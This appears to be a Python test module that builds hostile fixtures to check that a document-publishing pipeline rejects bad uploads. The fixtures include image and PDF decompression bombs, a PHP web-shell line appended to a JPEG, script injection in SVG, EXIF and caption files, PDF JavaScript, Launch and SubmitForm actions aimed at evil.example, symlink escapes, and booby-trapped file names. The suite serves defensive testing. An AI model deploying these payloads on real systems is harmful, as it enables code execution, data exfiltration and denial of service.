"""Pictures, captions, clips and attachments beside a text, links in the file system, names."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path

from PIL import Image

from tests.hostile.attacks import CALL, HOST, OUTSIDE, SCRIPT, case, later, md
from tests.pipeline.pdf_files import pdf

COVER = md(cover="anh.jpg", cover_alt="Quang cảnh bộ phận một cửa")


def picture(kind="JPEG", size=(1000, 640), mode="RGB", **options):
    buffer = io.BytesIO()
    Image.new(
        mode, size, {"RGB": (200, 30, 30), "RGBA": (200, 30, 30, 90), "CMYK": (9, 200, 200, 9)}.get(mode, 1)
    ).save(buffer, kind, **options)
    return buffer.getvalue()


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width, height, *more, body=b""):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + b"".join(more)
        + chunk(b"IDAT", body or zlib.compress(bytes(900)))
        + chunk(b"IEND", b"")
    )


def zipped(**members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def exif(**tags):
    made = Image.Exif()
    for tag, value in tags.items():
        made[int(tag[1:])] = value
    return made.tobytes()


JPEG, PNG = picture(), picture("PNG")


def scans():
    return JPEG[:-2] + JPEG[JPEG.index(b"\xff\xda") : -2] * 2_000 + b"\xff\xd9"


def text_bomb():
    return zlib.compress(bytes(60_000_000), 9)


PICTURES = {
    "empty": (b"", "IMG004"), "cut": (lambda: JPEG[: len(JPEG) // 2], "IMG004"), "cut-end": (lambda: JPEG[:-2], "IMG004"), "only-head": (b"\xff\xd8\xff\xe0", "IMG003", "IMG004"),
    "png-bomb": (lambda: png(30_000, 30_000), "IMG005"), "png-huge-header": (lambda: png(2**31 - 1, 2**31 - 1), "IMG005", "IMG003"), "png-text-bomb": (lambda: png(900, 600, chunk(b"zTXt", b"a\0\0" + text_bomb())), "IMG003", "IMG004", "IMG005"),
    "png-profile-bomb": (lambda: png(900, 600, chunk(b"iCCP", b"a\0\0" + text_bomb())), "IMG003", "IMG004", "IMG005"), "png-chunks": (lambda: png(900, 600, *[chunk(b"tEXt", b"a\0b")] * 100_000), "IMG003", "IMG004", "IMG005"),
    "png-no-end": (PNG[:-12],), "jpeg-scans": (scans, "IMG005", "IMG004"), "jpeg-65500": (lambda: picture(size=(65_500, 3)),), "png-tall": (lambda: picture("PNG", (3, 40_000)),), "one-pixel": (lambda: picture(size=(1, 1)),),
    "jpeg-script": (lambda: JPEG + SCRIPT.encode(), "IMG010"), "jpeg-php": (lambda: JPEG + b"<?php system($_GET[0]); ?>", "IMG010"), "jpeg-zip": (lambda: JPEG + zipped(x="MZ"), "IMG010"), "exif-script": (lambda: picture(exif=exif(t270=SCRIPT)), "IMG010"),
    "exif-host": (lambda: picture(exif=exif(t270=f"https://{HOST}/{CALL}", t315=f"x onerror={CALL}")),), "xmp": (lambda: picture(xmp=f"<x:xmpmeta><a href='javascript:{CALL}'/></x:xmpmeta>".encode()),), "comment": (lambda: picture(comment=f"{CALL} {HOST}".encode()),),
    "exif-turned": (lambda: picture(exif=exif(t274=6)),), "exif-odd": (lambda: picture(exif=b"Exif\0\0II*\0\xff\xff\xff\xff"),), "exif-loop": (lambda: picture(exif=b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\0\0\0\0"),),
    "icc-odd": (lambda: picture(icc_profile=b"\0" * 3_000),), "icc-script": (lambda: picture(icc_profile=f"{CALL}{HOST}".encode() * 99),), "cmyk": (lambda: picture(mode="CMYK"),), "grey16": (lambda: picture("PNG", mode="I;16"),), "alpha": (lambda: picture("PNG", mode="RGBA"),),
    "png-as-jpg": (PNG,), "webp-as-jpg": (lambda: picture("WEBP"),), "gif": (lambda: picture("GIF"), "IMG003"), "bmp": (lambda: picture("BMP"), "IMG003"), "tiff": (lambda: picture("TIFF"), "IMG003"), "ico": (b"\0\0\1\0\1\0" + bytes(60), "IMG003"), "psd": (b"8BPS" + bytes(60), "IMG003"),
    "heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(90), "IMG008"), "avif": (b"\0\0\0\x18ftypavif" + bytes(90), "IMG008"), "svg": (f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>".encode(), "IMG009"), "svg-xml": (f"<?xml version='1.0'?><!DOCTYPE svg><svg>{SCRIPT}</svg>".encode(), "IMG009"),
    "emf": (b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + bytes(90), "IMG009"), "wmf": (b"\xd7\xcd\xc6\x9a" + bytes(90), "IMG009"), "exe": (b"MZ" + bytes(500), "IMG010"), "html": (f"<!doctype html>{SCRIPT}".encode(), "IMG010"), "pdf": (lambda: pdf("x"), "IMG010"), "zip": (lambda: zipped(a="b"), "IMG010"),
    "mp4": (b"\0\0\0\x18ftypisom" + bytes(90), "IMG003"), "text": (b"khong phai anh " * 99, "IMG003"), "noise": (bytes(range(256)) * 99, "IMG003"), "21-mb": (lambda: JPEG + bytes(21_000_000), "IMG005"), "webp-huge": (lambda: picture("WEBP", (4_000, 3_000)), "IMG005"),
    "progressive": (lambda: picture(size=(6_000, 5_000), progressive=True), "IMG005"), "webp-cut": (lambda: picture("WEBP")[:-30], "IMG004"), "webp-riff-lie": (b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0" + bytes(10), "IMG004", "IMG003"), "gif-in-jpeg": (b"GIF89a\xff\xd8\xff" + JPEG, "IMG003"),
}  # fmt: skip
for name, (data, *codes) in PICTURES.items():
    case(f"picture/{name}", {"tin.md": COVER, "anh.jpg": later(data)}, *codes)


def frames(kind):
    return picture(kind, save_all=True, append_images=[Image.new("RGB", (1000, 640), "blue")] * 3)


case(
    "picture/largest",
    {"tin.md": COVER, "anh.jpg": later(lambda: picture("PNG", (5_470, 5_470), "RGBA"))},
    "publish",
)
case("picture/animated-webp", {"tin.md": COVER, "anh.jpg": later(lambda: frames("WEBP"))}, "IMG011")
case("picture/animated-png", {"tin.md": COVER, "anh.jpg": later(lambda: frames("PNG"))}, "IMG011")
case("picture/animated-gif", {"tin.md": COVER, "anh.jpg": later(lambda: frames("GIF"))}, "IMG003")
case("picture/mpo", {"tin.md": COVER, "anh.jpg": later(lambda: frames("MPO"))}, "publish")
case(
    "picture/many",
    {
        "tin.md": md(" ".join(f"![Quang cảnh {n}](a{n}.png)" for n in range(60))),
        **{f"a{n}.png": later(lambda: picture("PNG", (700, 400))) for n in range(60)},
    },
)


def linked(target):
    """A link to what lies beside the unit's folder, to that folder, or to itself."""

    def make(file: Path) -> None:
        content = next(one for one in file.parents if one.name.startswith(("so-", "xa-"))).parent
        outside = content.parent / "ngoai.jpg"
        outside.write_bytes(JPEG + OUTSIDE.encode())
        file.symlink_to(outside if target == "file" else outside.parent if target == "folder" else file)

    return make


case("link/cover", {"tin.md": COVER, "anh.jpg": linked("file")}, "reject")
case("link/loop", {"tin.md": COVER, "anh.jpg": linked("itself")}, "reject")
case("link/folder", {"tin.md": md(cover="thu-muc/ngoai.jpg", cover_alt="x"), "thu-muc": linked("folder")}, "reject")
case("link/text", {"tin.md": linked("file")}, "FILE015")
case(
    "link/captions",
    {"tin.md": md(kind="clip", video="https://youtu.be/HN2026ABCDE", captions="a.vtt"), "a.vtt": linked("file")},
    "reject",
)
case("link/attachment", {"goi/index.md": md(), "goi/a.pdf": linked("file")})
case("name/pipe", {"tin.md": COVER, "anh.jpg": os.mkfifo}, "reject")
case("name/folder", {"tin.md": COVER, "anh.jpg": Path.mkdir}, "reject")
case("name/script", {f"{SCRIPT.replace('/', '')}.md": md()})
case("name/quotes", {f"a\"'onclick={CALL}.md": md()})
case("name/bidi", {"tin\u202edm.exe.md": md()})
case("name/newline", {"tin\n2.md": md()})
case("name/escape", {"tin\x1b[2J.md": md()})
case("name/not-utf8", {"tin-\udcff.md": md()}, "FILE003")
case("name/percent", {"%2e%2e%2ftin.md": md()})
case("name/long", {"a" * 240 + ".md": md()})
case("name/secret", {"bao-cao-toi-mat.md": md()}, "reject", "SAFE001", "publish", "review")

CUE = "WEBVTT\n\n00:01.000 --> 00:02.000\n"
CAPTIONS = {
    "script": CUE + SCRIPT, "onerror": CUE + f"<img src=x onerror={CALL}>", "style": f"WEBVTT\n\nSTYLE\n::cue{{background:url(//{HOST})}}\n\n" + CUE[8:] + "x", "note": f"WEBVTT\n\nNOTE {SCRIPT}\n\n" + CUE[8:] + "x",
    "settings": f"WEBVTT\n\n00:01.000 --> 00:02.000 region:{SCRIPT}\nx", "identifier": f"WEBVTT\n\n{SCRIPT}\n00:01.000 --> 00:02.000\nx", "header": f"WEBVTT {SCRIPT}\n\n00:01.000 --> 00:02.000\nx", "entity": CUE + "&lt;script&gt;alert(4711)",
    "html": f"<!doctype html>{SCRIPT}", "no-head": "00:01.000 --> 00:02.000\nx", "empty": "", "nul": CUE + "a\0b", "tcvn3": CUE + "Thñ tôc hµnh chÝnh t¹i phêng", "many": "WEBVTT\n\n" + "00:01.000 --> 00:02.000\nx\n\n" * 8_000, "big": CUE + "x" * 3_000_000,
    "backwards": "WEBVTT\n\n00:03.000 --> 00:02.000\nx", "secret": CUE + "TỐI MẬT", "phone": CUE + "Gọi tôi, số 0912345678", "voice": CUE + f"<v \"onclick={CALL}>chào", "bidi": CUE + "a\u202eb", "long-tag": CUE + "<" * 200_000,
}  # fmt: skip
for name, text in CAPTIONS.items():
    case(
        f"captions/{name}",
        {"tin.md": md(kind="clip", video="https://youtu.be/HN2026ABCDE", captions="a.vtt"), "a.vtt": text},
    )
case(
    "captions/srt",
    {
        "tin.md": md(kind="clip", video="https://youtu.be/HN2026ABCDE", captions="a.srt"),
        "a.srt": f"1\n00:00:01,000 --> 00:00:02,000\n{SCRIPT}\n",
    },
    "CLIP007",
)
case("clip/html", {"tin.md": md(kind="clip", video="a.mp4", transcript="x"), "a.mp4": f"<html>{SCRIPT}"}, "CLIP003")
case("clip/vtt", {"tin.md": md(kind="clip", video="a.vtt", transcript="x"), "a.vtt": CUE + SCRIPT}, "CLIP003")
case("clip/exe", {"tin.md": md(kind="clip", video="a.exe", transcript="x"), "a.exe": b"MZ"}, "CLIP003")
case("clip/svg", {"tin.md": md(kind="clip", video="a.svg", transcript="x"), "a.svg": "<svg/>"}, "CLIP003")
case(
    "clip/good", {"tin.md": md(kind="clip", video="a.mp4", transcript="x"), "a.mp4": b"\0\0\0\x18ftypisom" + bytes(999)}
)


@cache
def stream_bomb():
    return pdf("x", stream=b"BT /F1 12 Tf " + b"<0041> Tj " * 3_000_000)


ACTION = f"<</S /JavaScript /JS ({CALL.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})>>".encode()
PDFS = {
    "good": (lambda: pdf("Quyết định mở thêm quầy."), "publish"), "open-script": (lambda: pdf("x", catalog=b"/OpenAction " + ACTION), "ATT006"), "page-script": (lambda: pdf("x").replace(b"/Resources", b"/AA <</O %s>> /Resources" % ACTION), "ATT006"),
    "hex-name": (lambda: pdf("x", catalog=b"/OpenAction <</S /J#61vaScript /J#53 (x)>>"), "ATT006"), "launch": (lambda: pdf("x", catalog=b"/OpenAction <</S /Launch /F (cmd.exe)>>"), "ATT006"), "embedded": (lambda: pdf("x", catalog=b"/Names <</EmbeddedFiles <</Names [(a) 6 0 R]>>>>", more={6: b"<</Type /Filespec /F (a.exe)>>"}), "ATT006"),
    "submit": (lambda: pdf("x", catalog=b"/AcroForm <</Fields [] /A <</S /SubmitForm /F (https://evil.example)>>>>"), "ATT006"), "remote": (lambda: pdf("x", catalog=b"/OpenAction <</S /GoToE /F (x.pdf)>>"), "ATT006"), "xfa": (lambda: pdf("x", catalog=b"/AcroForm <</XFA 6 0 R>>"), "ATT006"),
    "locked": (lambda: pdf("x", trailer=b"/Encrypt 6 0 R"), "ATT005"), "cut": (lambda: pdf("x")[:-90], "ATT003"), "no-pages": (b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\nxref\ntrailer <</Root 1 0 R>>\nstartxref 9\n%%EOF\n", "ATT003"), "loop": (lambda: pdf("x").replace(b"/Kids [10 0 R", b"/Kids [2 0 R "),),
    "stream-bomb": (stream_bomb, "ATT008"), "white-bomb": (lambda: pdf("x", stream=b" " * 200_000_000), "ATT008", "ATT007"), "q-nest": (lambda: pdf("x", stream=b"q " * 5_000_000), "ATT008", "ATT007"), "pages": (lambda: pdf(*["chữ trên trang"] * 300), "ATT008"),
    "scan": (lambda: pdf(None, None), "ATT007"), "secret": (lambda: pdf("Trang", "TUYỆT MẬT\nBáo cáo"), "SAFE001"), "personal": (lambda: pdf("Trang", "Liên hệ chị Lan, số di động 0912345678"), "SAFE004"), "identity": (lambda: pdf("Công dân Nguyễn Văn Tám, số CCCD: 001085012345"), "SAFE003"), "draft": (lambda: pdf("DỰ THẢO LẦN 2\nLƯU HÀNH NỘI BỘ"), "SAFE002"),
    "html": (SCRIPT, "ATT003"), "exe": (b"MZ" + bytes(99), "ATT003"), "zip-behind": (lambda: pdf("x") + zipped(a="b"), "ATT003"), "empty": (b"", "ATT003"), "html-before": (lambda: SCRIPT.encode() + pdf("x"), "ATT003"), "11-mb": (lambda: pdf("x") + bytes(11_000_000), "ATT004"), "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 4_000 + b"startxref\n0\n%%EOF", "ATT003"),
    "objects": (lambda: pdf("x", catalog=b"/X [" + b"<<>>" * 1_000_000 + b"]"),), "deep": (lambda: pdf("x", catalog=b"/X " + b"[" * 1_000_000),), "title": (lambda: pdf("x", trailer=b"/Info 6 0 R", more={6: b"<</Title (<script>alert\\(4711\\)</script>)>>"}),), "tcvn3": (lambda: pdf("MËT\nB¸o c¸o vÒ viÖc tiÕp nhËn hå s¬ cña ng\xadêi d©n"), "SAFE001"),
}  # fmt: skip
for name, (data, *codes) in PDFS.items():
    case(f"pdf/{name}", {"goi/index.md": md(), "goi/van-ban.pdf": later(data)}, *codes)
case("pdf/name", {"goi/index.md": md(), f'goi/a"onclick={CALL} .pdf': pdf("Chữ")})
case(
    "pdf/ten-bombs",
    {
        "goi/index.md": md(),
        **{f"goi/{n}.pdf": later(stream_bomb) for n in range(10)},
    },
    "ATT008",
)
case("pdf/forty", {"goi/index.md": md(), **{f"goi/{n}.pdf": pdf("x") for n in range(40)}}, "ATT004")
case("bundle/other-files", {"goi/index.md": md(), "goi/a.xlsx": "PK", "goi/a.exe": "MZ", "goi/a.html": SCRIPT})
case("bundle/deep", {"a/" * 30 + "tin.md": md()})
case("bundle/wide", {"tin.md": md(), **{f"rac/{n}.jpg": "x" for n in range(3_000)}})
for ending in ("doc", "rtf", "odt", "xlsx", "pptx", "html", "txt", "docm", "pages", "svg", "exe", "zip", "eml"):
    case(f"type/{ending}", {f"tin.{ending}": f"<html>{SCRIPT}"})
